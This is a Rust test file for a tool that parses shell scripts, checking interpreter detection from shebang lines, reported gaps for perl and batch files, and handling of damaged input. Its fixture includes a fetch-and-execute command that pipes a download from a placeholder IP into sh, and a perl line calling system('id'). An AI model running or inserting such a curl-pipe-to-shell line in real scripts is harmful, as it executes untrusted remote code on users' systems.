use crate::testing::{claims, gaps, parse, parse_file, survive};
use wb_core::{Bytes, CallStyle, OpKind};

const SCRIPT: &str = "#!/bin/sh\ncurl -s http://192.0.2.9/x | sh\n";

#[test]
fn commands_of_shell_scripts_are_lifted() {
    assert_eq!(claims(SCRIPT.as_bytes()), "script");
    let content = parse("script", SCRIPT.as_bytes());
    let commands = content.programs[0].ops.iter().filter(|op| {
        matches!(op.kind, OpKind::Call { style: CallStyle::Command, .. })
    });
    assert_eq!(commands.count(), 2);
    assert!(content.gaps.is_empty());
}

#[test]
fn the_interpreter_is_found_behind_env() {
    for (line, name) in [
        ("#!/usr/bin/env bash", "bash"),
        ("#!/usr/bin/env -S A=1 zsh -e", "zsh"),
        ("#! /bin/dash", "dash"),
        ("#!/usr/bin/perl -w", "perl"),
    ] {
        let content = parse("script", format!("{line}\necho\n").as_bytes());
        assert_eq!(content.components[0].class, name, "{line}");
    }
}

#[test]
fn other_interpreters_are_named_and_unread() {
    let content = parse("script", b"#!/usr/bin/perl\nsystem('id');\n");
    assert_eq!(gaps(&content), ["scripts for `perl` are not read"]);
    let content = parse_file("script", "dir/start.bat", b"@echo off\r\nstart x.exe\r\n");
    assert_eq!(gaps(&content), ["scripts for `cmd` are not read"]);
}

#[test]
fn python_and_prose_are_left_to_others() {
    assert_eq!(claims(b"#!/usr/bin/env python3\nimport os\n"), "python (script)");
    for text in [&b"#!not a path\n"[..], b"# Title\n", b"#!/", b"#!/bin/sh\n\0\0"] {
        assert_eq!(claims(text), "", "{text:?}");
    }
    let named = |name: &str, text: &[u8]| {
        let claims = crate::identify_named(Bytes::new(text), &wb_core::ArtifactPath::from(name));
        claims.first().map(|claim| claim.format)
    };
    assert_eq!(named("run.sh", b"echo one\n"), Some("script"));
    assert_eq!(named("run.txt", b"echo one\n"), None);
}

#[test]
fn damage_is_survived() {
    survive("script", SCRIPT.as_bytes());
}
